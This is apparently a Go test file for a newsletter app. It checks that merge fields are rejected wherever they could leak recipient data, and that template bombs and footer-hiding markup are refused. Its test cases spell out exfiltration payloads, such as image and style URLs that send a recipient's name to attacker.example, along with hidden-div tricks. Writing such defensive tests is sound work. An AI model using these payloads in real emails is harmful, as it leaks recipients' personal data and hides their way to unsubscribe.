package app_test

import (
	"errors"
	"strings"
	"testing"

	"newsletter/app"
)

// TestCampaignMergeFieldRule: merge fields stand only where they cannot
// carry a recipient's data anywhere but to the recipient; every other
// placement, and every action but plain fields and if, is refused with
// the field, its line and where it stands.
func TestCampaignMergeFieldRule(t *testing.T) {
	tests := []struct {
		name    string
		subject string
		html    string
		text    string
		field   string // "" means allowed
		want    string // part of the message
	}{
		// Allowed.
		{name: "NameInText", html: `<p>Dear {{.Name}},</p>`},
		{name: "NameInLinkText", html: `<a href="https://example.com/">Offers for {{.Name}}</a>`},
		{name: "NameInTitle", html: `<html><head><title>For {{.Name}}</title></head><body>x</body></html>`},
		{name: "NameWithPunctuation", html: `<p>«{{.Name}}», ({{.Name}}). {{.Name}}'s offer</p>`},
		{name: "LinksAsWholeHref", html: `<a href="{{.UnsubscribeURL}}">u</a> <A HREF= {{.PreferencesURL}} >p</A>`},
		{name: "HrefWithSpaces", html: `<a href=" {{.UnsubscribeURL}} ">u</a>`},
		{name: "IfElse", html: `<p>{{if .Name}}Dear {{.Name}}{{else if not .Name}}Hello{{else}}x{{end}}</p>{{/* note */}}`},
		{name: "SubjectName", subject: "Offers for {{.Name}}!"},
		{name: "TextAlone", text: "Dear {{.Name}},\nUnsubscribe: {{.UnsubscribeURL}}\n<{{.PreferencesURL}}>\n"},
		// The name in markup.
		{name: "ImgSrc", html: `<img src="https://attacker.example/p.gif?n={{.Name}}">`, field: "body_html", want: "line 1: {{.Name}} stands in the src attribute of <img>"},
		{name: "Alt", html: "<p>x</p>\n<img alt=\"{{.Name}}\">", field: "body_html", want: "line 2: {{.Name}} stands in the alt attribute of <img>"},
		{name: "Style", html: `<div style="background:url(https://a.example/{{.Name}})">x</div>`, field: "body_html", want: "style attribute of <div>"},
		{name: "HrefPart", html: `<a href="https://a.example/?n={{.Name}}">x</a>`, field: "body_html", want: "href attribute of <a>"},
		{name: "StyleElement", html: `<style>body{background:url(https://a.example/{{.Name}})}</style>`, field: "body_html", want: "inside <style>"},
		{name: "Script", html: `<script>var n = {{.Name}}</script>`, field: "body_html", want: "inside <script>"},
		{name: "Noscript", html: `<noscript><img src="https://a.example/{{.Name}}"></noscript>`, field: "body_html", want: "inside <noscript>"},
		{name: "TagName", html: `<{{.Name}}>`, field: "body_html", want: "stands in a tag"},
		{name: "AttrName", html: `<p {{.Name}}="x">`, field: "body_html", want: "attribute name of <p>"},
		{name: "Comment", html: `<!-- {{.Name}} -->`, field: "body_html", want: "comment"},
		{name: "TextURL", html: `<p>https://a.example/?n={{.Name}}</p>`, field: "body_html", want: "joined to a web address"},
		{name: "TextURLAcrossTags", html: `<p>https://a.example/?n=<b>{{.Name}}</b></p>`, field: "body_html", want: "joined to a web address"},
		{name: "TextDomain", html: `<p>{{.Name}}.a.example</p>`, field: "body_html", want: "joined to a web address"},
		{name: "TextEntityURL", html: `<p>a.example&#47;{{.Name}}</p>`, field: "body_html", want: "joined to a web address"},
		{name: "TextAngle", html: `<p>&lt;https://a.example/?n= {{.Name}} &gt;</p>`, field: "body_html", want: "joined to a web address"},
		// Links anywhere but a whole <a href>.
		{name: "UnsubInImg", html: `<img src="https://a.example/p.gif?u={{.UnsubscribeURL}}">`, field: "body_html", want: "{{.UnsubscribeURL}} stands in the src attribute of <img>"},
		{name: "PrefsHrefPart", html: `<a href="https://a.example/?p={{.PreferencesURL}}">x</a>`, field: "body_html", want: "{{.PreferencesURL}} is only part of the href of <a>"},
		{name: "PrefsTwice", html: `<a href="{{.PreferencesURL}}{{.UnsubscribeURL}}">x</a>`, field: "body_html", want: "only part of the href"},
		{name: "PrefsLinkTag", html: `<link rel="stylesheet" href="{{.PreferencesURL}}">`, field: "body_html", want: "href attribute of <link>"},
		{name: "PrefsArea", html: `<area href="{{.PreferencesURL}}">`, field: "body_html", want: "href attribute of <area>"},
		{name: "PrefsPing", html: `<a href="{{.PreferencesURL}}" ping="https://a.example/">x</a>`, field: "body_html", want: "ping"},
		{name: "UnsubInText", html: `<p>{{.UnsubscribeURL}}</p>`, field: "body_html", want: "{{.UnsubscribeURL}} stands in the text"},
		{name: "SubjectURL", subject: "Leave: {{.UnsubscribeURL}}", field: "subject", want: "stands in the subject"},
		{name: "SubjectNameURL", subject: "a.example/{{.Name}}", field: "subject", want: "joined"},
		{name: "TextPartURLJoined", text: "https://a.example/?u={{.UnsubscribeURL}}", field: "body_text", want: "joined"},
		{name: "TextPartNameJoined", text: "See https://a.example/?n={{.Name}}", field: "body_text", want: "joined"},
		// Actions that reach data other ways.
		{name: "Dot", html: `<p>{{.}}</p>`, field: "body_html", want: "{{.}} is not allowed"},
		{name: "Printf", html: `<p>{{printf "%s" .Name}}</p>`, field: "body_html", want: "is not allowed"},
		{name: "Pipeline", html: `<p>{{.Name | urlquery}}</p>`, field: "body_html", want: "is not allowed"},
		{name: "With", html: `<p>{{with .Name}}<img src="https://a.example/{{.}}">{{end}}</p>`, field: "body_html", want: "is not allowed"},
		{name: "Variable", html: `{{$n := .Name}}<img src="https://a.example/{{$n}}">`, field: "body_html", want: "is not allowed"},
		{name: "Range", html: `{{range 200000}}<p>x</p>{{end}}`, field: "body_html", want: "line 1: {{range 200000}}"},
		{name: "Define", html: "<p>x</p>\n{{define \"t\"}}<img src=\"https://a.example/{{.Name}}\">{{end}}", field: "body_html", want: `line 2: {{define "t"}} is not allowed`},
		{name: "Block", html: `{{block "t" .}}x{{end}}`, field: "body_html", want: "is not allowed"},
		{name: "IfEq", html: `{{if eq .Name "Ann"}}<img src="https://a.example/ann">{{end}}`, field: "body_html", want: "is not allowed"},
		{name: "IfInsideAttr", html: `<img src="https://a.example/{{if .Name}}{{.Name}}{{end}}">`, field: "body_html", want: "src attribute of <img>"},
		{name: "TextPartRange", text: "{{range 3}}x{{end}}", field: "body_text", want: "is not allowed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := app.Campaign{Name: "N", Subject: "S", Purpose: app.CampaignMarketing, BodyHTML: "<p>x</p>", BodyText: tt.text}
			if tt.subject != "" {
				c.Subject = tt.subject
			}
			if tt.html != "" {
				c.BodyHTML = tt.html
			}
			err := c.Validate()
			if tt.field == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			got := app.ErrorFields(err)[tt.field]
			if app.ErrorCode(err) != app.EINVALID || !strings.Contains(got, tt.want) {
				t.Fatalf("%s: %q, want %q (%v)", tt.field, got, tt.want, err)
			}
		})
	}
}

// TestCampaignMergeFieldRuleRussian: the console shows the rule's
// messages in Russian.
func TestCampaignMergeFieldRuleRussian(t *testing.T) {
	c := app.Campaign{Name: "N", Subject: "S", Purpose: app.CampaignMarketing, BodyHTML: `<img src="https://a.example/{{.Name}}">`}
	var e *app.CampaignTemplateError
	if err := c.Validate(); !errors.As(err, &e) {
		t.Fatalf("%v", err)
	}
	if got := e.Localize("ru").Fields["body_html"]; !strings.Contains(got, "строка 1: {{.Name}} стоит в атрибуте src элемента <img>") {
		t.Fatalf("%q", got)
	}
}

// TestCampaignRenderCap: a template that would be larger than the cap for
// a recipient with the longest possible name is refused when saved; a
// longer value than any sample still cannot pass the cap when rendered.
func TestCampaignRenderCap(t *testing.T) {
	many := func(n int) string { return "<p>" + strings.Repeat("{{.Name}} ", n) + "</p>" }
	c := app.Campaign{Name: "N", Subject: "S", Purpose: app.CampaignMarketing, BodyHTML: many(50000)}
	err := c.Validate()
	if got := app.ErrorFields(err)["body_html"]; !strings.Contains(got, "larger than 1.0 MB") {
		t.Fatalf("a name bomb: %v", err)
	}
	c.BodyHTML, c.BodyText = "<p>x</p>", strings.Repeat("{{.Name}} ", 50000)
	if got := app.ErrorFields(c.Validate())["body_text"]; !strings.Contains(got, "larger than") {
		t.Fatalf("a text-part bomb: %v", c.Validate())
	}
	c.BodyText, c.Subject = "", strings.TrimSpace(strings.Repeat("{{.Name}} ", 30))
	if got := app.ErrorFields(c.Validate())["subject"]; !strings.Contains(got, "subject would be longer") {
		t.Fatalf("a subject bomb: %v", c.Validate())
	}

	c = app.Campaign{Name: "N", Subject: "S", Purpose: app.CampaignMarketing, BodyHTML: many(2000)}
	tpl, err := app.CompileCampaign(&c, app.Operator{Name: "Op"}, func(h string) string { return h }, testFrame(t))
	if err != nil {
		t.Fatalf("a large template within the cap: %v", err)
	}
	f := app.MergeFields{Name: "Ann", UnsubscribeURL: "https://x.example/u/t", PreferencesURL: "https://x.example/p/t"}
	if _, err := tpl.Render("en", f); err != nil {
		t.Fatal(err)
	}
	f.Name = strings.Repeat("n", 1000) // longer than any name the form takes
	m, err := tpl.Render("en", f)
	if err == nil || !strings.Contains(err.Error(), "larger than 1 MB") || m.HTML != "" || m.Text != "" {
		t.Fatalf("over the cap: %v, %d bytes", err, len(m.HTML))
	}
}

// TestCampaignFooterAfterBody: whatever the body's markup, the footer
// stands after it, outside every element of the body, and the body's html
// and body attributes do not reach the page.
func TestCampaignFooterAfterBody(t *testing.T) {
	bodies := map[string]string{
		"UnclosedHiddenDiv":   `<p>Hi {{.Name}}</p><div style="display:none">`,
		"UnclosedTable":       `<table><tr><td style="display:none"><p>x`,
		"HiddenBodyAttribute": `<html style="display:none"><body style="display:none" hidden><p>x</p></body></html>`,
		"EndTagsAndMore":      `<div style="display:none"></body></html><p>after</p>`,
		"UnclosedSelect":      `<p>x</p><select><option>`,
		"UnclosedList":        `<ul><li><ol><li><b><i>x`,
		"Template":            `<template><div style="display:none">`,
		"Foreign":             `<svg><foreignObject><div style="display:none">`,
	}
	for name, body := range bodies {
		t.Run(name, func(t *testing.T) {
			c := &app.Campaign{ID: 1, Subject: "S", Purpose: app.CampaignMarketing, BodyHTML: body}
			tpl, err := app.CompileCampaign(c, app.Operator{Name: "Example Ltd"}, nil, testFrame(t))
			if err != nil {
				t.Fatal(err)
			}
			m, err := tpl.Render("en", app.MergeFields{Name: "Ann", UnsubscribeURL: "https://x.example/u/t", PreferencesURL: "https://x.example/p/t"})
			if err != nil {
				t.Fatal(err)
			}
			if !footerIsChildOfBody(t, m.HTML) {
				t.Fatalf("the footer is not a child of <body>:\n%s", m.HTML)
			}
		})
	}
	// Bodies that end inside a comment, a style or a textarea, or use
	// elements whose parse swallows what follows, are refused.
	for _, body := range []string{`<p>x</p><plaintext>`, `<noscript><div style="display:none"></noscript>`,
		`<p>x</p><noscript><div style="display:none">`, `<frameset><frame src="https://a.example/"></frameset>`,
		`<p>x</p><!-- open`, `<p>x</p><style>`, `<p>x</p><textarea>`, `<p>x</p><script>`} {
		c := &app.Campaign{Name: "N", Subject: "S", Purpose: app.CampaignMarketing, BodyHTML: body}
		if err := c.Validate(); app.ErrorFields(err)["body_html"] == "" {
			t.Errorf("%s: accepted (%v)", body, err)
		}
	}
}
